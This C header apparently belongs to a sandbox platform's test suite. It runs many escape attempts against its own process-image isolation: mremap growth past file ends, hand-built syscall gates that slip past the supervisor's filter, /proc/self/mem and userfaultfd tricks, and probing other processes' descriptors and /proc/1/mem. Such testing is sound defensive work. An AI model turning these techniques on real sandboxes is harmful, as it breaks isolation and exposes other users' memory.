// Tries to reach other images than its own, in every way that a process without rights has. Shared by the
// program neighbours.c and by the library of the same name that functions load (tests/platform/functions).
//
// neighbours_attack(images, masked, ...) appends a line for each thing that was reached, and ends with
// "tried N, read N, died N, past the end N, targets N, grown pages N": attempts, those that could look around
// afterwards, those that did not live to, those that met SIGBUS where an image's file ends, mappings of the image
// that were attacked, and by how many pages they grew.
//
// Each attempt is made in a process of its own. Afterwards it reads every page that it can of whatever is mapped
// anew or elsewhere, and looks for a page that holds the other's secret; one attempt does nothing, and reads all
// that was mapped before. The secret comes masked, byte by byte, and is never put together: only who reached another's memory has a page with it.
// Between an attempt and the look nothing uses malloc or stdio, whose memory the attempt may have taken away.
#ifndef FARFORK_NEIGHBOURS_H
#define FARFORK_NEIGHBOURS_H

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define NB_PAGE 4096UL
// How far mappings grow: from the last of the targets beyond the end of the image, which may lie behind all that is
// mapped of it.
#define NB_TAIL (16UL << 20)
static unsigned long nb_far = NB_TAIL;
#define NB_MASK 0xa5
#define NB_SECRET 32
// The addresses that the restorer keeps for itself in a clone.
#define NB_WINDOW 0x4f0000000000UL
#define NB_WINDOW_END 0x4f0100000000UL
#define NB_MAPPINGS 20000
// Mappings of the image that are attacked: those that begin the file, and those that end it.
#define NB_TARGETS 6
#define NB_AROUND 20
// Where a file has ended not every page is tried: each would raise SIGBUS, and the secret has more pages.
#define NB_STRIDE 16
#define NB_AFTER_EXEC "FARFORK_NEIGHBOURS_AFTER_EXEC"
#ifndef MREMAP_DONTUNMAP
#define MREMAP_DONTUNMAP 4
#endif

struct nb_mapping {
    uint64_t start, end, offset, device, inode;
    int is_readable, is_executable, is_image, is_kernels;
};

// What a look has found. In memory that attempts share with who makes them.
struct nb_found {
    uint64_t other_image, other_at, secret_at;
    uint64_t images, past_end;
    char what[120];
    int is_done;
};

struct nb_attempt {
    const struct nb_mapping *of;
    int way, kind;
};

static const char *nb_images;
static unsigned char nb_masked[NB_SECRET];
static struct nb_found *nb_found;
static uint64_t nb_device, nb_inode;
static const char *nb_preload;
static struct nb_mapping nb_before[NB_MAPPINGS], nb_now[NB_MAPPINGS];
static int nb_before_count;

static void nb_report(const char *what) {
    if (!nb_found->what[0]) strncpy(nb_found->what, what, sizeof nb_found->what - 1);
}

static char *nb_number(char *at, int base, uint64_t *to) {
    *to = 0;
    for (;; at++) {
        int digit = *at >= 'a' ? *at - 'a' + 10 : *at - '0';
        if (digit < 0 || digit >= base) return at;
        *to = *to * base + digit;
    }
}

static void nb_parse(char *line, struct nb_mapping *m) {
    uint64_t major, minor;
    char *at = nb_number(line, 16, &m->start);
    at = nb_number(at + 1, 16, &m->end) + 1;
    m->is_readable = at[0] == 'r';
    m->is_executable = at[2] == 'x';
    at = nb_number(at + 5, 16, &m->offset) + 1;
    at = nb_number(at, 16, &major) + 1;
    at = nb_number(at, 16, &minor) + 1;
    at = nb_number(at, 10, &m->inode);
    while (*at == ' ') at++;
    m->device = makedev(major, minor);
    // An image that is removed has more behind its path.
    m->is_image = strncmp(at, nb_images, strlen(nb_images)) == 0 ||
                  (nb_device && m->device == nb_device && m->inode);
    m->is_kernels = strncmp(at, "[v", 2) == 0;
}

static int nb_mappings(struct nb_mapping *all) {
    static char text[1 << 16];
    size_t held = 0;
    int count = 0, fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
    ssize_t got;
    while (fd >= 0 && (got = read(fd, text + held, sizeof text - 1 - held)) > 0) {
        held += got;
        text[held] = 0;
        char *line = text, *end;
        while (count < NB_MAPPINGS && (end = strchr(line, '\n'))) {
            *end = 0;
            nb_parse(line, &all[count++]);
            line = end + 1;
        }
        held -= line - text;
        memmove(text, line, held);
    }
    if (fd >= 0) close(fd);
    return count;
}

static uint64_t nb_image_bytes(void) {
    uint64_t sum = 0;
    for (int i = 0, n = nb_mappings(nb_now); i < n; i++)
        sum += nb_now[i].is_image ? nb_now[i].end - nb_now[i].start : 0;
    return sum;
}

static sigjmp_buf nb_after;
static volatile sig_atomic_t nb_is_expected;

// Where no signal is expected, what this process needs has gone, and going back would do the same again.
static void nb_trapped(int number, siginfo_t *info, void *context) {
    (void)info, (void)context;
    if (!nb_is_expected) __asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(1) : "rcx", "r11", "memory");
    siglongjmp(nb_after, number);
}

static void nb_catch(void) {
    struct sigaction action = {.sa_sigaction = nb_trapped, .sa_flags = SA_SIGINFO | SA_NODEFER};
    sigaction(SIGILL, &action, NULL);
    sigaction(SIGSEGV, &action, NULL);
    sigaction(SIGBUS, &action, NULL);
}

static int nb_holds_secret(const unsigned char *page, size_t bytes) {
    const unsigned char *end = page + bytes - NB_SECRET + 1;
    for (const unsigned char *at = page; at < end; at++) {
        at = memchr(at, nb_masked[0] ^ NB_MASK, end - at);
        if (!at) return 0;
        int same = 1;
        while (same < NB_SECRET && (at[same] ^ NB_MASK) == nb_masked[same]) same++;
        if (same == NB_SECRET) return 1;
    }
    return 0;
}

// Reads what can be read of a mapping.
static void nb_read(const struct nb_mapping *m) {
    volatile uint64_t at;
    volatile int has_met_end = 0;
    nb_is_expected = 1;
    for (at = m->start; at < m->end; at += has_met_end ? NB_STRIDE * NB_PAGE : NB_PAGE) {
        int trap = sigsetjmp(nb_after, 0);
        if (trap == SIGBUS && m->is_image) has_met_end = 1;
        if (trap) continue;
        if (nb_holds_secret((const unsigned char *)at, NB_PAGE)) nb_found->secret_at = at;
    }
    nb_is_expected = 0;
    nb_found->past_end += has_met_end;
}

static int nb_is_new(const struct nb_mapping *m) {
    for (int i = 0; i < nb_before_count; i++)
        if (nb_before[i].start == m->start && nb_before[i].end == m->end && nb_before[i].inode == m->inode)
            return 0;
    return 1;
}

// Looks at all mappings, and reads those that are new and that of the attempt; of NULL, everything.
static void nb_look(const struct nb_mapping *of) {
    uint64_t seen = 0;
    nb_catch();
    for (int i = 0, n = nb_mappings(nb_now); i < n; i++) {
        struct nb_mapping *m = &nb_now[i];
        if (m->is_image) {
            nb_found->images += m->inode != seen;
            seen = m->inode;
            if (nb_inode && m->inode != nb_inode) {
                nb_found->other_image = m->inode;
                nb_found->other_at = m->start;
            }
        }
        if (of && m->start != of->start && !nb_is_new(m)) continue;
        // What is not readable of an image may be made so.
        if (m->is_image && !m->is_readable) mprotect((void *)m->start, m->end - m->start, PROT_READ);
        if (m->is_image || (m->is_readable && !m->is_kernels)) nb_read(m);
    }
    nb_found->is_done = 1;
}

typedef long nb_call(long nr, long a, long b, long c, long d, long e);

// A `syscall; ret` of our own, where the supervisor's filter takes calls for the restorer's.
static long nb_own_gate(long nr, long a, long b, long c, long d, long e) {
    static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89,
                                         0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x0f, 0x05, 0xc3};
    for (uint64_t at = NB_WINDOW + 0x80000000UL; at < NB_WINDOW_END; at += 0x1000000) {
        int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE;
        void *page = mmap((void *)at, NB_PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, flags, -1, 0);
        if (page != (void *)at) continue;
        memcpy(page, code, sizeof code);
        return ((nb_call *)page)(nr, a, b, c, d, e);
    }
    return -ENOSYS;
}

// The restorer's own `syscall; ud2`: the SIGILL that follows is survived. What it did is seen in the mappings.
static long nb_restorers_gate(long nr, long a, long b, long c, long d, long e) {
    nb_catch();
    for (int i = 0, n = nb_mappings(nb_now); i < n; i++) {
        struct nb_mapping *m = &nb_now[i];
        if (m->start < NB_WINDOW || m->start >= NB_WINDOW_END || !m->is_readable || !m->is_executable) continue;
        unsigned char *found = memmem((void *)m->start, m->end - m->start, "\x0f\x05\x0f\x0b", 4);
        if (!found) continue;
        nb_is_expected = 1;
        if (sigsetjmp(nb_after, 0) == 0) {
            register long r10 __asm__("r10") = d;
            register long r8 __asm__("r8") = e;
            __asm__ volatile("jmp *%1"
                             :
                             : "a"(nr), "r"(found), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                             : "rcx", "r11", "memory");
        }
        nb_is_expected = 0;
        return 0;
    }
    return -ENOSYS;
}

static long nb_libc(long nr, long a, long b, long c, long d, long e) {
    long result = syscall(nr, a, b, c, d, e);
    return result == -1 ? -errno : result;
}

static long nb_x32(long nr, long a, long b, long c, long d, long e) {
    return nb_libc(nr | 0x40000000, a, b, c, d, e);
}

static nb_call *const nb_ways[] = {nb_libc, nb_own_gate, nb_restorers_gate, nb_x32};
static const char *const nb_way_names[] = {"libc", "own gate", "restorer's gate", "x32"};

struct nb_race {
    pthread_barrier_t start;
    uint64_t page, to;
};

static void *nb_mover(void *argument) {
    struct nb_race *race = argument;
    pthread_barrier_wait(&race->start);
    syscall(SYS_mremap, race->page, NB_PAGE, NB_PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, race->to);
    return NULL;
}

// One thread moves a page of the image to X while another grows what was anonymous at X.
static void nb_race(const struct nb_mapping *of) {
    uint64_t before = nb_image_bytes();
    for (uint64_t page = of->end - NB_PAGE; page > of->start; page -= NB_PAGE) {
        struct nb_race race = {.page = page};
        pthread_t thread;
        char *x = mmap(NULL, 2 * NB_PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        munmap(x + NB_PAGE, NB_PAGE);
        race.to = (uint64_t)x;
        pthread_barrier_init(&race.start, NULL, 2);
        pthread_create(&thread, NULL, nb_mover, &race);
        pthread_barrier_wait(&race.start);
        void *grown = mremap(x, NB_PAGE, nb_far, MREMAP_MAYMOVE);
        pthread_join(thread, NULL);
        if (nb_image_bytes() > before || page + 200 * NB_PAGE < of->end) return;
        if (grown != MAP_FAILED) munmap(grown, nb_far);
    }
}

// Addresses without which this process cannot go on.
static int nb_is_vital(const struct nb_mapping *m) {
    int here;
    const void *needed[] = {&here, &nb_found, nb_found, __builtin_thread_pointer(), &environ, environ,
                            nb_images, nb_now, (const void *)(uintptr_t)nb_is_vital,
                            (const void *)(uintptr_t)memchr, (const void *)(uintptr_t)syscall};
    for (size_t i = 0; i < sizeof needed / sizeof *needed; i++)
        if ((uint64_t)needed[i] >= m->start && (uint64_t)needed[i] < m->end) return 1;
    return 0;
}

// Whether an attempt could go on without a mapping: tried by a process that unmaps it.
static int nb_is_spare(const struct nb_mapping *m) {
    int status;
    pid_t child = fork();
    if (child == 0) {
        munmap((void *)m->start, m->end - m->start);
        nb_catch();
        nb_mappings(nb_now);
        _exit(0);
    }
    return child > 0 && waitpid(child, &status, 0) == child && status == 0;
}

// Unmaps what lies around a mapping of the image, but for what this process needs.
static void nb_unmap_others(const struct nb_mapping *but) {
    int tried = 0, at = 0;
    while (at < nb_before_count && nb_before[at].start < but->start) at++;
    for (int i = at > NB_AROUND ? at - NB_AROUND : 0; i < nb_before_count && tried < 2 * NB_AROUND; i++, tried++) {
        const struct nb_mapping *m = &nb_before[i];
        if (i != at && m->is_image && !nb_is_vital(m) && nb_is_spare(m))
            munmap((void *)m->start, m->end - m->start);
    }
}

// Has the kernel fill pages past the image's end from the file that they would lie in.
static void nb_userfault(long at, long bytes) {
    int fd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
    struct uffdio_api api = {.api = UFFD_API, .features = UFFD_FEATURE_MINOR_SHMEM};
    long grown = nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
    if (fd < 0 || grown < 0 || ioctl(fd, UFFDIO_API, &api)) return;
    struct uffdio_register past = {.range = {grown + bytes, nb_far},
                                   .mode = UFFDIO_REGISTER_MODE_MISSING | UFFDIO_REGISTER_MODE_MINOR};
    if (ioctl(fd, UFFDIO_REGISTER, &past)) {
        past.mode = UFFDIO_REGISTER_MODE_MISSING;
        ioctl(fd, UFFDIO_REGISTER, &past);
    }
    for (unsigned long page = 0; page < nb_far; page += NB_PAGE) {
        struct uffdio_continue next = {.range = {grown + bytes + page, NB_PAGE}};
        struct uffdio_zeropage zero = {.range = {grown + bytes + page, NB_PAGE}};
        ioctl(fd, UFFDIO_CONTINUE, &next);
        ioctl(fd, UFFDIO_ZEROPAGE, &zero);
    }
    close(fd);
}

// Reads by /proc/self/mem what a grown mapping does not show.
static void nb_own_memory(long at, long bytes) {
    static unsigned char page[NB_PAGE];
    long grown = nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
    int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (fd < 0 || grown < 0) return;
    for (long to = grown; to < grown + bytes + (long)nb_far; to += NB_PAGE)
        if (pread(fd, page, NB_PAGE, to) == (ssize_t)NB_PAGE && nb_holds_secret(page, NB_PAGE))
            nb_found->secret_at = to;
    // What is written there must appear in no file: who looks from outside compares.
    memset(page, 0x5a, sizeof page);
    for (long to = grown; to < grown + bytes + (long)nb_far; to += NB_PAGE)
        if (pwrite(fd, page, NB_PAGE, to) < 0) break;
    close(fd);
}

// A file of the pool that was opened: is found, and mapped, so that it is looked at with all others.
static void nb_try_file(int fd, const char *what) {
    char link[64], path[4096] = "";
    struct stat found;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (fstat(fd, &found) || !S_ISREG(found.st_mode) || readlink(link, path, sizeof path - 1) < 0) return;
    if (strncmp(path, nb_images, strlen(nb_images)) && (!nb_device || found.st_dev != nb_device)) return;
    nb_report(what);
    mmap(NULL, found.st_size + nb_far, PROT_READ, MAP_SHARED, fd, 0);
}

static void nb_each(const char *directory, int flags, const char *what) {
    DIR *listed = opendir(directory);
    struct dirent *entry;
    while (listed && (entry = readdir(listed))) {
        int fd = openat(dirfd(listed), entry->d_name, flags | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) continue;
        nb_try_file(fd, what);
        close(fd);
    }
    if (listed) closedir(listed);
}

static void nb_descriptors(void) {
    for (int fd = 0; fd < 1024; fd++) nb_try_file(fd, "holds a descriptor of an image");
    nb_each("/proc/self/fd", O_RDONLY, "opened an image by /proc/self/fd");
}

static void nb_map_files(void) {
    nb_each("/proc/self/map_files", O_RDONLY, "opened an image by /proc/self/map_files");
    nb_each("/proc/self/map_files", O_RDWR, "opened an image for writing by /proc/self/map_files");
}

// The init of the clone, and all others that are seen.
static void nb_other_processes(void) {
    char path[64];
    for (int pid = 1; pid < 64; pid++) {
        for (int which = 0; which < 2; which++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, which ? "map_files" : "fd");
            nb_each(path, O_RDONLY, "opened an image of another process");
        }
    }
    int is_own = getppid() == 1;
    if (!is_own && open("/proc/1/mem", O_RDWR | O_CLOEXEC) >= 0) nb_report("opened the memory of the init");
}

static void nb_by_path(void) {
    char pool[4096] = "";
    // Who is root by its user id alone owns the files of a pool of root's, and may open them.
    if (geteuid() == 0) return;
    strncpy(pool, nb_images, sizeof pool - 1);
    nb_each(pool, O_RDONLY, "opened an image by its path");
    pool[strlen(pool) - strlen("images/")] = 0;
    if (open(pool, O_RDONLY | O_DIRECTORY | O_CLOEXEC) >= 0) nb_report("opened the pool's directory");
}

// Becomes another program, in which the constructor below looks around.
static void nb_exec(int found) {
    char text[4400], *at = text;
    char *const arguments[] = {"again", NULL};
    at += sprintf(at, "%d %llu ", found, (unsigned long long)nb_device);
    for (int i = 0; i < NB_SECRET; i++) at += sprintf(at, "%02x", nb_masked[i]);
    snprintf(at, text + sizeof text - at, " %s", nb_images);
    setenv(NB_AFTER_EXEC, text, 1);
    if (nb_preload) setenv("LD_PRELOAD", nb_preload, 1);
    fcntl(found, F_SETFD, 0);
    execv("/proc/self/exe", arguments);
}

static int nb_unmask(const char *hex) {
    for (int i = 0; i < NB_SECRET; i++) {
        unsigned value;
        if (sscanf(hex + 2 * i, "%2x", &value) != 1) return 0;
        nb_masked[i] = value;
    }
    return 1;
}

__attribute__((constructor)) static void nb_after_exec(void) {
    static char images[4096], hex[2 * NB_SECRET + 1];
    const char *asked = getenv(NB_AFTER_EXEC);
    unsigned long long device;
    int fd;
    if (!asked || sscanf(asked, "%d %llu %64s %4095s", &fd, &device, hex, images) != 4) return;
    nb_found = mmap(NULL, sizeof *nb_found, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (nb_found == MAP_FAILED || !nb_unmask(hex)) _exit(1);
    close(fd);
    nb_images = images;
    nb_device = device;
    nb_inode = ~0UL; // not even its own
    nb_descriptors();
    nb_look(NULL);
    _exit(0);
}

enum nb_kind {
    NB_PAGE_MORE, NB_GROW, NB_GROW_AND_MOVE, NB_NO_LENGTH, NB_WRAPPED_LENGTH, NB_KEEP, NB_MOVE_THEN_GROW,
    NB_SHRINK_THEN_GROW, NB_REMAP, NB_LAST_WITH_GATES = NB_REMAP, NB_RACE, NB_ALONE, NB_FORKED, NB_REMOVE,
    NB_DISCARD, NB_OWN_MEMORY, NB_USERFAULT, NB_LAST_WITH_TARGETS = NB_USERFAULT, NB_NOTHING, NB_DESCRIPTORS,
    NB_MAP_FILES, NB_PROCESSES, NB_PATH, NB_EXEC, NB_KINDS
};

static const char *const nb_kind_names[] = {
    "grow by a page", "grow far", "grow and move", "from no length", "from a length that wraps",
    "grow and keep", "move, then grow", "shrink, then grow", "remap_file_pages", "race",
    "grow after all else is unmapped", "fork, then grow", "MADV_REMOVE", "discard, then grow",
    "/proc/self/mem", "userfaultfd", "nothing", "descriptors", "map_files", "other processes", "by path",
    "exec",
};

static void nb_try_mremap(const struct nb_attempt *attempt, long at, long bytes, long free_at) {
    nb_call *call = nb_ways[attempt->way];
    long half = bytes / 2 / NB_PAGE * NB_PAGE;
    switch (attempt->kind) {
    case NB_PAGE_MORE: call(SYS_mremap, at, bytes, bytes + NB_PAGE, MREMAP_MAYMOVE, 0); break;
    case NB_GROW: call(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0); break;
    case NB_GROW_AND_MOVE:
        call(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE | MREMAP_FIXED, free_at);
        break;
    case NB_NO_LENGTH: call(SYS_mremap, at, 0, bytes + nb_far, MREMAP_MAYMOVE, 0); break;
    case NB_WRAPPED_LENGTH: call(SYS_mremap, at, -1, bytes + nb_far, MREMAP_MAYMOVE, 0); break;
    case NB_KEEP:
        call(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE | MREMAP_DONTUNMAP, 0);
        call(SYS_mremap, at, bytes, bytes, MREMAP_MAYMOVE | MREMAP_DONTUNMAP | MREMAP_FIXED, free_at);
        call(SYS_mremap, free_at, bytes, bytes + nb_far, 0, 0);
        break;
    case NB_MOVE_THEN_GROW:
        call(SYS_mremap, at, bytes, bytes, MREMAP_MAYMOVE | MREMAP_FIXED, free_at);
        munmap((void *)(free_at + bytes), nb_far);
        call(SYS_mremap, free_at, bytes, bytes + nb_far, 0, 0);
        break;
    case NB_SHRINK_THEN_GROW:
        if (half) call(SYS_mremap, at, bytes, half, MREMAP_MAYMOVE, 0);
        call(SYS_mremap, at, half ? half : bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
        break;
    case NB_REMAP: call(SYS_remap_file_pages, at, bytes, 0, attempt->of->offset / NB_PAGE + 512, 0); break;
    }
}

// With a mapping of the image.
static void nb_try_target(const struct nb_attempt *attempt) {
    long at = attempt->of->start, bytes = attempt->of->end - attempt->of->start;
    long free_at = (long)mmap(NULL, bytes + nb_far, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t child;
    switch (attempt->kind) {
    case NB_RACE: nb_race(attempt->of); break;
    case NB_ALONE:
        nb_unmap_others(attempt->of);
        nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
        break;
    case NB_FORKED:
        nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
        if ((child = fork())) {
            waitpid(child, NULL, 0); // it looks, and this one does not
            _exit(0);
        }
        break;
    case NB_REMOVE:
        madvise((void *)at, bytes, MADV_REMOVE);
        mprotect((void *)at, bytes, PROT_READ | PROT_WRITE);
        if (!madvise((void *)at, bytes, MADV_REMOVE)) nb_report("punched a hole into the image");
        break;
    case NB_DISCARD:
        nb_own_gate(SYS_madvise, at, bytes, MADV_DONTNEED, 0, 0);
        nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
        break;
    case NB_OWN_MEMORY: nb_own_memory(at, bytes); break;
    case NB_USERFAULT: nb_userfault(at, bytes); break;
    default: nb_try_mremap(attempt, at, bytes, free_at);
    }
}

static void nb_try(const struct nb_attempt *attempt, int found) {
    if (attempt->kind <= NB_LAST_WITH_TARGETS) nb_try_target(attempt);
    if (attempt->kind == NB_DESCRIPTORS) nb_descriptors();
    if (attempt->kind == NB_MAP_FILES) nb_map_files();
    if (attempt->kind == NB_PROCESSES) nb_other_processes();
    if (attempt->kind == NB_PATH) nb_by_path();
    if (attempt->kind == NB_EXEC) nb_exec(found);
    static const struct nb_mapping none;
    const struct nb_mapping *of = attempt->of ? attempt->of : &none;
    nb_look(attempt->kind == NB_NOTHING ? NULL : of);
}

struct nb_text {
    char *to;
    size_t used, bytes;
    unsigned tried, read, died, past_end;
};

__attribute__((format(printf, 2, 3))) static void nb_say(struct nb_text *text, const char *format, ...) {
    va_list arguments;
    va_start(arguments, format);
    size_t room = text->bytes - text->used;
    int length = vsnprintf(text->to + text->used, room, format, arguments);
    text->used += (size_t)length < room ? (size_t)length : room - 1;
    va_end(arguments);
}

static void nb_tell(struct nb_text *text, const struct nb_attempt *attempt, int status) {
    const struct nb_found *found = nb_found;
    char how[200];
    snprintf(how, sizeof how, "%s: %s at %lx", nb_way_names[attempt->way], nb_kind_names[attempt->kind],
             attempt->of ? attempt->of->start : 0);
    text->tried++;
    text->read += found->is_done;
    text->died += !found->is_done;
    text->past_end += found->past_end > 0;
    if (found->other_image)
        nb_say(text, "%s: maps image %lu at %lx\n", how, found->other_image, found->other_at);
    if (found->secret_at) nb_say(text, "%s: has the secret at %lx\n", how, found->secret_at);
    if (found->what[0]) nb_say(text, "%s: %s\n", how, found->what);
    if (attempt->kind == NB_NOTHING && found->images > 1 && !found->other_image)
        nb_say(text, "%s: maps %lu images\n", how, found->images);
    if (WIFSIGNALED(status) && WTERMSIG(status) == SIGALRM) nb_say(text, "%s: took too long\n", how);
}

static void nb_attempt(struct nb_text *text, const struct nb_attempt *attempt) {
    int status = 0, memory = memfd_create("found", MFD_CLOEXEC);
    if (memory < 0 || ftruncate(memory, NB_PAGE)) return;
    nb_found = mmap(NULL, NB_PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    nb_before_count = nb_mappings(nb_before);
    pid_t child = fork();
    if (child == 0) {
        alarm(20);
        nb_try(attempt, memory);
        _exit(0);
    }
    if (child > 0 && waitpid(child, &status, 0) == child) nb_tell(text, attempt, status);
    munmap(nb_found, NB_PAGE);
    close(memory);
}

// Readable mappings of the image that begin its file, and those that end it.
static int nb_targets(struct nb_mapping *targets) {
    static struct nb_mapping all[NB_MAPPINGS];
    int count = 0, chosen = 0;
    for (int i = 0, n = nb_mappings(nb_now); i < n; i++)
        if (nb_now[i].is_image && nb_now[i].is_readable && !nb_is_vital(&nb_now[i])) all[count++] = nb_now[i];
    while (chosen < NB_TARGETS && count) {
        int best = 0;
        for (int i = 1; i < count; i++)
            if (chosen % 2 ? all[i].offset < all[best].offset : all[i].offset > all[best].offset) best = i;
        if (nb_is_spare(&all[best])) targets[chosen++] = all[best];
        all[best] = all[--count];
    }
    return chosen;
}

static void nb_learn_own_image(void) {
    nb_device = nb_inode = 0;
    for (int i = 0, n = nb_mappings(nb_now); i < n; i++) {
        if (!nb_now[i].is_image) continue;
        nb_device = nb_now[i].device;
        nb_inode = nb_now[i].inode;
        return;
    }
}

static void nb_choose_far(const struct nb_mapping *targets, int count) {
    uint64_t last = 0, end = 0;
    for (int i = 0; i < count; i++) {
        uint64_t to = targets[i].offset + targets[i].end - targets[i].start;
        last = to > last ? to : last;
    }
    for (int i = 0, n = nb_mappings(nb_now); i < n; i++) {
        uint64_t to = nb_now[i].offset + nb_now[i].end - nb_now[i].start;
        end = nb_now[i].is_image && to > end ? to : end;
    }
    if (count && end - last + NB_TAIL > nb_far) nb_far = end - last + NB_TAIL;
}

// `images` is the directory of the pool's images, with a slash at its end; `masked` the secret in hexadecimal
// digits; `preload` what a program that this one executes must load to look around, if it must.
static void neighbours_attack(const char *images, const char *masked, const char *preload, char *report,
                              size_t bytes) {
    struct nb_mapping targets[NB_TARGETS];
    struct nb_text text = {.to = report, .bytes = bytes};
    nb_images = images;
    nb_preload = preload;
    report[0] = 0;
    if (!nb_unmask(masked)) return;
    nb_learn_own_image();
    int count = nb_targets(targets);
    nb_choose_far(targets, count);
    for (int kind = 0; kind < NB_KINDS; kind++) {
        int ways = kind <= NB_LAST_WITH_GATES ? 4 : 1;
        // The race needs time.
        int most = kind > NB_LAST_WITH_TARGETS ? 1 : kind == NB_RACE && count > 2 ? 2 : count;
        for (int way = 0; way < ways; way++) {
            for (int i = 0; i < most; i++) {
                struct nb_attempt attempt = {kind <= NB_LAST_WITH_TARGETS ? &targets[i] : NULL, way, kind};
                nb_attempt(&text, &attempt);
            }
        }
    }
    nb_say(&text, "tried %u, read %u, died %u, past the end %u, targets %d, grown pages %lu\n", text.tried, text.read,
           text.died, text.past_end, count, nb_far / NB_PAGE);
}

#endif
